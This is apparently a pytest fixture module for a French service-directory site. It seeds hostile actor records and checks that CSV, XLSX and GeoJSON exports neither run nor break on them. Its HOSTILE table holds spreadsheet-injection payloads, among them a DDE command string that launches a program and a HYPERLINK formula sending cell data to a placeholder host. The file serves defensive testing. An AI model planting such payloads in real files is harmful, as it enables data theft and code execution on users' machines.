"""Hostile actors among others, and the files of a search as other programs than ours read them."""

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime
from random import Random
from typing import Any
from uuid import uuid4

import httpx
import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import Connection

from app.main import create_app
from app.platform.cluster.server import Cluster
from importers import vocabulary
from tests.conftest import cloned
from tests.makers import add_actor
from tests.world import World, people, serving, settings_in

# A Wednesday, 12:30 in Paris.
NOW = datetime(2026, 6, 10, 10, 30, tzinfo=UTC)
# What a list may hold and no spreadsheet may run, lose or break on. PostgreSQL refuses NUL.
HOSTILE = {
    "formula": '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+33 1 43 93 93 93",
    "minus": "-2+3",
    "at": "@SOMME(A1:A9)",
    "full width": "＝1+1",
    "unseen": "\u200b\u202e=1+1",
    "tab": "\t=1+1",
    "within": "Accueil, =1+1; +2 | @x",
    "error": "#N/A",
    "number": "0012",
    "day": "1/2",
    "lines": "Accueil\r\nde jour\n=1+1\u2028fin",
    "quotes": "Maison \"d'Enfants\"; 'x'",
    "controls": "Point\x01\x0b\x1f\x7f\x85d’écoute\ufffe\uffff",
    "code": "_x003D_1+1_x000D_",
    "markup": "<t>]]></t></is>&amp;<!--",
    # XlsxWriter 3.3 writes a text with these two ends as XML, the formula within it too.
    "rich text": '<r><t>a</t></r></is></c><c r="A99"><f>1+1</f></c><c><is><r><t>b</t></r>',
    "emoji": "Écoute 👩🏽‍⚕️ 💙",
    "long": "😀" * 20_000,
}


def hostile(connection: Connection) -> dict[str, str]:
    """Write an actor of Nord for each, the text wherever one may stand; return their ids."""
    ids = {}
    for number, (name, text) in enumerate(HOSTILE.items()):
        ids[name] = f"a{number:015x}"
        values = {"name": text, "acronym": text, "description": text, "address": text}
        phones = ["+33143939393", "+3221234567"]
        add_actor(
            connection,
            **values,
            public_id=ids[name],
            territory_code="59",
            category="sante",
            phones=phones,
            email="a@exemple.invalid",
            commune_code="59350",
            point="SRID=4326;POINT(-1.5 50.6)",
            precision="street",
            opening_hours='Mo-Fr 09:00-12:00 "=1+1"',
            verified_on=date(2026, 1, 31),
            age_min=3,
            age_max=17,
        )
    return ids


def crowd(connection: Connection) -> None:
    """Write 250 actors around Bobigny that differ in all that a search looks at."""
    chance = Random(23)  # noqa: S311 - the same each time
    words = vocabulary.load()
    open_ones = [code for code, each in words.categories.items() if not each.protected]
    for number in range(250):
        drawn = chance.random() < 0.8
        lon, lat = 2.44 + chance.uniform(-0.3, 0.3), 48.91 + chance.uniform(-0.2, 0.2)
        add_actor(
            connection,
            public_id=f"c{number:015x}",
            name=f"{chance.choice(['=Écoute', 'Accueil', 'CIDFF', '-Maison'])} {number}",
            category=chance.choice(open_ones),
            territory_code=chance.choice(["93", "93", "75", "59"]),
            functions=chance.sample(list(words.functions), 2),
            audiences=chance.sample(list(words.audiences), 1),
            age_min=chance.choice([None, 0, 12]),
            opening_hours=chance.choice([None, "24/7", "Mo-Fr 09:00-17:00", "Sa 09:00-17:00"]),
            point=f"SRID=4326;POINT({lon:.5f} {lat:.5f})" if drawn else None,
            precision="address" if drawn else None,
            covers_national=chance.random() < 0.03,
        )


@pytest.fixture(scope="session")
def world(cluster: Cluster, admin: Connection, lean_template: str) -> Iterator[World]:
    """The actors of the web tests, hostile ones and a crowd, committed, and only read."""
    with cloned(cluster, admin, lean_template, f"demo_{uuid4().hex[:12]}") as databases:
        with databases.staff.begin() as connection:
            ids = people(connection) | hostile(connection)
            crowd(connection)
        yield World(databases, ids)


@pytest.fixture(scope="session")
def client(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    """A client of a service over that world, where it is NOW; it follows no redirect by itself."""
    settings = settings_in(
        tmp_path_factory.mktemp("files"), rate_limit=0, public_url="https://carte.exemple"
    )
    app = create_app(settings, world.databases)
    app.state.site = replace(app.state.site, now=lambda: NOW)
    with serving(app) as address, httpx.Client(base_url=address, trust_env=False) as client:
        yield client


@dataclass(frozen=True)
class Files:
    """The files of one search, by the end of their names."""

    answers: dict[str, httpx.Response]

    @property
    def csv(self) -> list[dict[str, str]]:
        """Lines of the CSV, as Python's own reader takes them."""
        text = self.answers["csv"].content.decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))

    @property
    def geojson(self) -> dict[str, Any]:
        """The FeatureCollection."""
        collection: dict[str, Any] = self.answers["geojson"].json()
        return collection

    @property
    def book(self) -> Any:
        """The workbook as openpyxl reads it: formulas as formulas, and styles."""
        return openpyxl.load_workbook(io.BytesIO(self.answers["xlsx"].content))

    @property
    def xlsx(self) -> list[dict[str, Any]]:
        """Rows of its first sheet, as calamine reads them."""
        book = CalamineWorkbook.from_filelike(io.BytesIO(self.answers["xlsx"].content))
        header, *rows = book.get_sheet_by_index(0).to_python(skip_empty_area=False)
        return [dict(zip(map(str, header), row, strict=True)) for row in rows]

    def ids(self) -> list[list[str]]:
        """Public ids in the order of each file."""
        return [
            [row["identifiant"] for row in self.csv],
            [row["Identifiant"] for row in self.xlsx],
            [feature["id"] for feature in self.geojson["features"]],
        ]


def files(client: httpx.Client, query: str) -> Files:
    """Ask for the three files of a search."""
    answers = {kind: client.get(f"/table.{kind}?{query}") for kind in ("csv", "xlsx", "geojson")}
    assert {answer.status_code for answer in answers.values()} == {200}, query
    return Files(answers)
